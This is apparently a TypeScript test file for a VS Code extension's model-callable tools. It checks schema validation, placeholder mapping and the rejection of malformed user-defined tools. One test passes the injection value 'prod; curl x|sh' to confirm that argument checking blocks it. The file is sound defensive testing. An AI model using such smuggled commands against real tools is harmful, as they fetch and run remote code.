import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { validateTools } from '../../../src/gateway/validation/chatTools';
import { BUILTIN_TOOL_SPECS, runCommandSpec } from '../../../src/tools/builtinToolSpecs';
import { MEDIA_TOOL_SPECS } from '../../../src/mediaActions/mediaToolSpecs';
import { allowsStrict, toolDefinition } from '../../../src/tools/toolSpec';
import { checkArguments, commandArguments, commandResultText, readUserDefinedTools } from '../../../src/tools/userDefinedTools';

const root = path.resolve(__dirname, '../../../..');

test('every built-in tool definition passes the gateway validator, with unique names', () => {
  const specs = [...BUILTIN_TOOL_SPECS, runCommandSpec(['editor.action.formatDocument'])];
  assert.deepEqual(
    validateTools(specs.map(toolDefinition)),
    specs.map((s) => s.name),
  );
  assert.deepEqual(
    specs
      .filter((s) => !s.readOnly)
      .map((s) => s.name)
      .sort(),
    ['create_file', 'edit_file', 'run_task', 'run_vscode_command'],
  );
});

test('strict only where the schema allows it: closed objects with every property required', () => {
  assert.equal(allowsStrict({ type: 'object', properties: {}, required: [], additionalProperties: false }), true);
  assert.equal(allowsStrict({ type: 'object', properties: { a: { type: 'string' } }, required: ['a'], additionalProperties: false }), true);
  assert.equal(allowsStrict({ type: 'object', properties: { a: { type: 'string' } }, required: [], additionalProperties: false }), false);
  assert.equal(allowsStrict({ type: 'object', properties: { a: { type: 'string' } }, required: ['a'] }), false);
  assert.equal(
    allowsStrict({
      type: 'object',
      properties: { a: { type: 'object', properties: { b: { type: 'string' } }, required: [], additionalProperties: false } },
      required: ['a'],
      additionalProperties: false,
    }),
    false,
  );
  const strict = BUILTIN_TOOL_SPECS.map(toolDefinition)
    .filter((d) => d.function.strict)
    .map((d) => d.function.name);
  assert.deepEqual(strict, ['get_selection', 'run_task']);
});

test('the media tools share their schemas with the language model tools of package.json', () => {
  const pkg = JSON.parse(fs.readFileSync(path.join(root, 'package.json'), 'utf8')) as {
    contributes: { languageModelTools: Array<{ name: string; inputSchema: unknown; modelDescription: string }> };
  };
  for (const spec of Object.values(MEDIA_TOOL_SPECS)) {
    const declared = pkg.contributes.languageModelTools.find((t) => t.name === spec.languageModelName);
    assert.ok(declared, spec.languageModelName);
    assert.deepEqual(declared.inputSchema, spec.parameters, spec.chatName);
    assert.equal(declared.modelDescription, spec.description, spec.chatName);
  }
  assert.deepEqual(
    validateTools(
      Object.values(MEDIA_TOOL_SPECS).map((s) => toolDefinition({ name: s.chatName, description: s.description, parameters: s.parameters, readOnly: false })),
    ),
    ['generate_image', 'create_video_task', 'read_aloud'],
  );
});

test('user-defined tools: valid entries become tools, the others are reported and left out', () => {
  const { tools, problems } = readUserDefinedTools(
    [
      {
        name: 'open_search',
        description: 'Search',
        parameters: { type: 'object', properties: { q: { type: 'string' } }, required: ['q'] },
        command: 'workbench.action.findInFiles',
        arguments: [{ query: '${q}', isRegex: false }],
      },
      { name: 'plain', command: 'my.command' },
      { name: 'read_file', command: 'x' },
      { name: 'bad name!', command: 'x' },
      { name: 'nocommand' },
      { name: 'plain', command: 'dup' },
      { name: 'schema', command: 'x', parameters: { type: 'string' } },
      'nonsense',
    ],
    ['read_file'],
  );
  assert.deepEqual(
    tools.map((t) => t.spec.name),
    ['open_search', 'plain'],
  );
  assert.equal(tools[1]?.spec.description, 'Runs the VS Code command my.command.');
  assert.ok(tools.every((t) => !t.spec.readOnly));
  assert.equal(problems.length, 6);
  assert.match(problems[0]!, /userDefined\[2\] is ignored: the name "read_file" is already taken/);
  assert.deepEqual(readUserDefinedTools(undefined, []), { tools: [], problems: [] });
  assert.equal(readUserDefinedTools({}, []).problems.length, 1);
});

test('the argument mapping: whole placeholders keep the value, no template passes the object', () => {
  const [mapped, plain] = readUserDefinedTools(
    [
      { name: 'm', command: 'c', arguments: ['${path}', { n: '${count}', label: 'fixed text', missing: '${nope}' }, 7] },
      { name: 'p', command: 'c' },
    ],
    [],
  ).tools;
  assert.deepEqual(commandArguments(mapped!, { path: 'a.txt', count: 3 }), ['a.txt', { n: 3, label: 'fixed text', missing: undefined }, 7]);
  assert.deepEqual(commandArguments(plain!, { a: 1 }), [{ a: 1 }]);
});

test('a placeholder with text around it is refused when the setting is read: model text never becomes part of a longer string', () => {
  const { tools, problems } = readUserDefinedTools(
    [
      { name: 'deploy', command: 'workbench.action.terminal.sendSequence', arguments: [{ text: 'deploy ${target}\n' }] },
      { name: 'nested', command: 'c', arguments: [[{ deep: 'x${y}' }]] },
    ],
    [],
  );
  assert.deepEqual(tools, []);
  assert.match(problems[0]!, /userDefined\[0\] is ignored: "arguments" has the text "deploy \$\{target\}\\n": a placeholder must be the whole value/);
  assert.match(problems[1]!, /userDefined\[1\] is ignored: .*"x\$\{y\}"/);
});

test("a user-defined tool's arguments are checked against its declared parameters before it is previewed (asked) or run", async () => {
  const [tool] = readUserDefinedTools(
    [
      {
        name: 'deploy',
        command: 'c',
        arguments: ['${target}'],
        parameters: {
          type: 'object',
          properties: { target: { type: 'string', enum: ['staging', 'prod'] }, count: { type: 'integer', minimum: 1 } },
          required: ['target'],
          additionalProperties: false,
        },
      },
    ],
    [],
  ).tools;
  assert.doesNotThrow(() => checkArguments(tool!, { target: 'prod', count: 2 }));
  assert.throws(
    () => checkArguments(tool!, { target: 'prod; curl x|sh' }),
    /do not fit deploy's parameters: arguments.target must be one of "staging", "prod"\. Nothing ran\./,
  );
  assert.throws(() => checkArguments(tool!, {}), /arguments.target is required/);
  assert.throws(() => checkArguments(tool!, { target: 'prod', extra: 1 }), /arguments.extra is not a known argument/);
  assert.throws(() => checkArguments(tool!, { target: 'prod', count: 0.5 }), /arguments.count must be integer/);
  assert.throws(() => checkArguments(tool!, { target: 'prod', constructor: 1 }), /arguments.constructor is not a known argument/);
});

test('a definition whose parameters use keywords that cannot be checked is refused, naming them', () => {
  const { tools, problems } = readUserDefinedTools(
    [{ name: 't', command: 'c', parameters: { type: 'object', properties: { q: { type: 'string', pattern: '^(a+)+$' } } } }],
    [],
  );
  assert.deepEqual(tools, []);
  assert.match(problems[0]!, /"parameters" uses parameters.properties.q.pattern/);
});

test('a definition changes its hash when any part of it changes', () => {
  const base = { name: 't', command: 'c', arguments: ['${a}'] };
  const [a, b, c] = readUserDefinedTools([base], []).tools.concat(
    readUserDefinedTools([{ ...base, command: 'other' }], []).tools,
    readUserDefinedTools([base], []).tools,
  );
  assert.notEqual(a!.definitionHash, b!.definitionHash);
  assert.equal(a!.definitionHash, c!.definitionHash);
});

test('command results as text: strings as they are, objects as JSON, nothing as a sentence', () => {
  assert.equal(commandResultText('c', 'done'), 'done');
  assert.equal(commandResultText('c', { a: 1 }), '{\n  "a": 1\n}');
  assert.equal(commandResultText('c', undefined), 'The command c ran (it returned nothing).');
  const circular: Record<string, unknown> = {};
  circular.self = circular;
  assert.equal(commandResultText('c', circular), '[object Object]');
});
